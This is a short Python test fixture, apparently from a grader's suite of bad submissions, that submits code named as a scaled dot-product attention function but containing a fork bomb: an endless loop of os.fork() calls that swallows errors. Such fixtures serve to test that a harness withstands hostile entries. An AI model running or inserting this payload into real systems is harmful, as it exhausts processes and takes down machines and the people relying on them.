"""Forks without end."""

from bad_submissions.kit import TARGET, Submission

LOSES = {TARGET}


CODE = r"""
import os


def scaled_dot_product_attention(query, key, value):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""


def make(s: Submission) -> None:
    s.answer(CODE)
